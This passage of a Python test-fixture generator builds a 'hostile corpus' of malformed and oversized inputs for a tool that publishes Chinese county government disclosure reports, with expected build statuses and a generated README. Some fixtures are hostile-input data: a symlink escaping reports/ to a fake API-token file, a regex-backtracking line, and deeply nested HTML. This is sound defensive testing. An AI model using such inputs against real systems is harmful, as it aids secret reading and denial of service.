        Case("numbers_units.txt", utf8(report("单位县科学技术局2023年政府信息公开工作年度报告",
                                              t2={"规章": "0件\t0 件\t2项", "行政许可": "1,234", "行政处罚": "5万元",
                                                  "行政强制": "50%", "行政事业性收费": "3000元"})),
             "带单位的数（件、项、万元、元、%）与千位分隔符", "problems", "单位", "单位县科学技术局"),
        Case("numbers_fullwidth.txt", utf8(report("全角县科学技术局２０２３年政府信息公开工作年度报告",
                                                  t2={"规章": "０\t０\t０", "行政规范性文件": "１\t０\t５", "行政许可": "３"},
                                                  t3=t3_rows(2, new_received=["２", "０", "０", "０", "０", "０", "２"]))),
             "全角数字", "ok", "", "全角县科学技术局"),
        Case("numbers_glued.txt", utf8(report("连写县科学技术局2023年政府信息公开工作年度报告",
                                              t3=t3_rows(2, carried_over=["1234567891234567891234567891234567891"]),
                                              t4="123456789123456789123456789123456789")),
             "连在一起的 37 位数字（拆分组合数以十亿计）", "problems", "数字连在一起", "连写县科学技术局"),
        Case("repeated_rows.txt", utf8(report("重复行县科学技术局2023年政府信息公开工作年度报告",
                                              t2={"行政许可": "1\t\t\n行政许可\t2\t\t\n行政许可\t1\t\t\n行政许可\t2\t\t\n行政许可\t1"})),
             "同一行印了 5 次（1、2、1、2、1）：该栏不采用（不因最后一行是 1 而发布 1），问题只列一次", "problems", "均不采用", "重复行县科学技术局"),
        Case("numbers_fraction.txt", utf8(report("小数县科学技术局2023年政府信息公开工作年度报告",
                                                 t2={"行政许可": "1.5", "行政事业性收费": "1.25"},
                                                 t3=t3_rows(2, carried_over=["0.0000001", "0", "0", "0", "0", "0", "0"]))),
             "件数栏印小数 1.5、0.0000001（收费金额 1.25 可以是小数）：件数不采用", "problems", "件数应为整数", "小数县科学技术局"),
        Case("numbers_circled.txt", utf8(report("圈码县科学技术局2023年政府信息公开工作年度报告",
                                                t2={"行政许可": "③", "行政处罚": "²"})),
             "件数栏印 ③ 与 ²（NFKC 会变成 3 与 2）：不采用", "problems", "无法读作数字", "圈码县科学技术局"),
        Case("year_1900.txt", utf8(report("百年县科学技术局1900年政府信息公开工作年度报告")),
             "年度 1900 年早于《条例》（2008 年）：年度不采用", "problems", "早于", "百年县科学技术局"),
        Case("year_han.txt", utf8(report("汉字县科学技术局二〇二三年政府信息公开工作年度报告")),
             "标题年度写作“二〇二三年”", "ok", "", "汉字县科学技术局"),
        Case("year_arabic.txt", utf8(report("阿拉伯县科学技术局٢٠٢٣年政府信息公开工作年度报告")),
             "标题年度用阿拉伯-印度数字“٢٠٢٣”", "ok", "", "阿拉伯县科学技术局"),
        Case("stars.md", utf8(report("星号县科学技术局2023年政府信息公开工作年度报告", end="星" + "*" * 50_000 + "星")),
             "一行 5 万个星号（正则回溯）", "ok", "", "星号县科学技术局"),
    ]
    return cases


def _mixed_eol(text: str) -> str:
    out = []
    for i, line in enumerate(text.split("\n")):
        out.append(line + ("\r\n", "\r", "\n")[i % 3])
    return "".join(out)


CASES = build_cases()
SIDECARS = {c.name for c in CASES if c.status == "sidecar"}


def expected() -> dict[str, Case]:
    """Every input file of the corpus and its expectation (sidecars are not inputs)."""
    return {c.name: c for c in CASES if c.status != "sidecar"}


# --- large files, made at test time -----------------------------------------------------


def write_large(folder: Path) -> dict[str, Path]:
    """The three large cases: a 50 MB file, one million lines, one 5 MB line."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    seed = report("大文件县科学技术局2023年政府信息公开工作年度报告").encode("utf-8")
    big = folder / "big_50mb.txt"
    with big.open("wb") as fh:
        fh.write(seed)
        chunk = ("这一行是填充文字。" * 100 + "\n").encode("utf-8")
        while fh.tell() < 50 * 1024 * 1024:
            fh.write(chunk)
    paths["big_50mb.txt"] = big
    lines = folder / "million_lines.txt"
    with lines.open("wb") as fh:
        fh.write(report("百万行县科学技术局2023年政府信息公开工作年度报告", end="").encode("utf-8"))
        fh.write("第二段\n0\n\n行政许可\t1\n".encode() * 250_000)
    paths["million_lines.txt"] = lines
    long_line = folder / "long_line.txt"
    long_line.write_bytes(
        report("长行县科学技术局2023年政府信息公开工作年度报告",
               end=("一二三四五六七八九十1 2，" * 400_000)).encode("utf-8")
    )  # fmt: skip
    paths["long_line.txt"] = long_line
    for name, data in DEEP.items():
        (folder / name).write_bytes(data())
        paths[name] = folder / name
    return paths


# A valid report wrapped deep (~230 KB together: made at test time, like the large files).
DEEP = {
    "deep_divs.html": lambda: utf8(
        "<html><body>" + "<div>" * 10_000
        + html_report("层层县科学技术局2023年政府信息公开工作年度报告")
        + "</div>" * 10_000 + "</body></html>"
    ),
    "nested_tables.html": lambda: utf8(
        "<html><body>" + "<table><tr><td>" * 3000
        + html_report("套表县科学技术局2023年政府信息公开工作年度报告")
        + "</td></tr></table>" * 3000 + "</body></html>"
    ),
}  # fmt: skip


LARGE = {
    "big_50mb.txt": ("50 MB 的文件", "failed", "超过 20 MB"),
    "million_lines.txt": ("一百万行（75 万行有文字）：超过 5 万行的文件不读取", "failed", "行文字"),
    "long_line.txt": ("一行 5 MB 的文字", "ok", ""),
    "deep_divs.html": ("网页：完整的报告包在 10,000 层 <div> 里（曾被判为“不是报告”）", "ok", ""),
    "nested_tables.html": ("网页：完整的报告包在 3,000 层嵌套表格里（曾被判为“不是报告”）", "ok", ""),
}


# --- cases git cannot hold, made at test time in the project's reports/ -------------------

GBK_NAME = "盐池县报告.txt".encode("gbk")  # what unzipping a Windows archive leaves
GBK_FOLDER = "扫描件".encode("gbk")
GBK_SIDECAR = "孤儿.yml".encode("gbk")


def shown(raw: bytes) -> str:
    """A file name as the build report shows it: bytes that are not UTF-8 as �."""
    return raw.decode("utf-8", errors="replace")


def write_unportable(folder: Path, outside: Path) -> None:
    """Names that are not UTF-8, links (a loop, a broken one, one leaving reports/ for
    ``outside``, one to a folder), a pipe, hidden files: none can be committed portably."""
    raw = os.fsencode(folder)
    with open(raw + b"/" + GBK_NAME, "wb") as fh:
        fh.write(utf8(report("盐池县科学技术局2023年政府信息公开工作年度报告")))
    os.mkdir(raw + b"/" + GBK_FOLDER)
    with open(raw + b"/" + GBK_FOLDER + b"/page1.txt", "wb") as fh:
        fh.write(b"x")
    with open(raw + b"/" + GBK_SIDECAR, "wb") as fh:
        fh.write(b"url: https://example.gov.cn/\n")
    os.symlink("loop_b", folder / "loop_a")
    os.symlink("loop_a", folder / "loop_b")
    os.symlink("gone.txt", folder / "broken_link.txt")
    outside.write_text("api_token: s3cr3t\n", encoding="utf-8")
    os.symlink(outside, folder / "outside_link.txt")
    (folder / "sub").mkdir()
    os.symlink(folder / "sub", folder / "folder_link")
    os.mkfifo(folder / "pipe.txt")
    (folder / ".hidden.txt").write_bytes(utf8(report("隐藏县科学技术局2023年政府信息公开工作年度报告")))
    (folder / ".git").mkdir()
    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")


UNPORTABLE = {
    shown(GBK_NAME): ("文件名是 GBK 字节（Windows 压缩包解压所得），不是 UTF-8", "failed", "盐池县报告.txt"),
    shown(GBK_FOLDER): ("文件夹名是 GBK 字节", "failed", "不是有效的 UTF-8"),
    shown(GBK_SIDECAR): ("附加信息文件名是 GBK 字节", "failed", "不是有效的 UTF-8"),
    "loop_a": ("符号链接循环", "skipped", "循环"),
    "loop_b": ("符号链接循环", "skipped", "循环"),
    "broken_link.txt": ("指向不存在的文件的符号链接", "skipped", "不存在"),
    "outside_link.txt": ("指向 reports/ 以外的符号链接（不得读取、不得显示其内容）", "skipped", "以外"),
    "folder_link": ("指向文件夹的符号链接", "skipped", "指向文件夹"),
    "pipe.txt": ("命名管道（打开就会一直等待）", "skipped", "命名管道"),
    ".hidden.txt": ("隐藏文件", "skipped", "隐藏文件"),
    ".git": ("隐藏文件夹", "skipped", "隐藏文件夹"),
}


# --- writing ----------------------------------------------------------------------------


def readme() -> str:
    rows = []
    for c in CASES:
        status = "（附加信息文件）" if c.status == "sidecar" else f"`{c.status}`"
        message = f"“{c.message}”" if c.message else ""
        rows.append(f"| `{c.name}` | {_md(c.tests)} | {status} | {_md(message)} |")
    for name, (tests, status, message) in LARGE.items():
        rows.append(f"| `{name}`（测试时生成） | {_md(tests)} | `{status}` | {_md(message and f'“{message}”')} |")
    for name, (tests, status, message) in UNPORTABLE.items():
        rows.append(f"| `{name}`（测试时生成） | {_md(tests)} | `{status}` | {_md(message and f'“{message}”')} |")
    return "\n".join([
        "# Hostile corpus",
        "",
        "Files a public portal may find in `reports/`. Generated by `make_hostile.py`",
        "(do not edit `reports/` by hand: run `.venv/bin/python tests/hostile/make_hostile.py`);",
        "`tests/test_hostile_parse.py` fails when the committed files differ from the script's output.",
        "",
        "Checked by `tests/test_hostile_parse.py` (parse stage), `tests/test_hostile_build.py`",
        "(the real `mkdocs build --strict` over these files plus two good seeds) and",
        "`tests/test_hostile_browser.py` (headless Chromium: no dialog, no script, no request",
        "leaving the site). Status is the file's entry in `build/build-report.json`:",
        "`ok`, `problems` (published, with the problems listed), `failed` (not a report; listed",
        "on the build-report page with the reason) or `skipped` (not read at all: hidden, a link",
        "leaving `reports/`, a pipe …; listed with the reason). Cases git cannot hold portably",
        "(names that are not UTF-8, symlinks, a pipe, hidden files) are made at test time by",
        "`write_unportable`.",
        "",
        "| File | What it tests | Status | Message contains |",
        "|---|---|---|---|",
        *rows,
        "",
        "## Building twice",
        "",
        "Two builds of the same `reports/` give the same bytes in every file of `site/`, with one",
        "exception: the gzip header of `sitemap.xml.gz` holds the build date (MkDocs takes it",
        "from the pages' update date, i.e. today, or from `SOURCE_DATE_EPOCH`), so builds on",
        "different days differ in those four bytes; the sitemap itself is identical.",
        "`test_hostile_build.py::test_two_builds_are_byte_identical` builds again in the same",
        "project and in a fresh project elsewhere on disk dated 400 days earlier, and allows",
        "only that (`MAY_DIFFER`). Removing it takes one line in the MkDocs hook (see the report",
        "of the hostile-input work): rewrite `sitemap.xml.gz` with `mtime=0` after the build.",
        "",
        "## Limits that turn a file into a `failed` entry",
        "",
        "| Limit | Where | Why |",
        "|---|---|---|",
        "| 20 MB | `read.MAX_BYTES` | a report is < 1 MB; checked before reading |",
        "| 50,000 lines with text | `read.MAX_LINES` | a report has a few thousand at most; every rule walks the lines |",
        "| 250,000 block tags (`<p>`, `<br>`, `<td>` …) | `read.py` | refused before lxml builds a million elements |",
        "",
        "Inside a readable report: a table with more than 200 rows is not read (`tables.MAX_TABLE_ROWS`),",
        "a number with more than 15 digits is not published (`numbers.MAX_DIGITS`), run-together",
        "digits are split only within 100,000 candidates per table (`numbers.MAX_SPLITS`), at most",
        "50 reading problems are listed per report (`parse.MAX_READ_PROBLEMS`), and a start tag",
        "longer than 2,000 characters keeps only its name and spans (`html.LONG_TAG_CHARS`).",
        "",
    ])


def _md(text: str) -> str:
    return (
        text.replace("\\", "\\\\").replace("|", "\\|").replace("<", "&lt;").replace(">", "&gt;")
        .replace("{", "&#123;").replace("}", "&#125;").replace("\n", " ")
    )  # fmt: skip


def files() -> dict[str, bytes]:
    return {c.name: c.data for c in CASES}


def write(folder: Path = REPORTS) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    wanted = files()
    for old in folder.iterdir():
        if old.name not in wanted:
            old.unlink()
    for name, data in wanted.items():
        (folder / name).write_bytes(data)
    README.write_text(readme(), encoding="utf-8")


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else REPORTS)
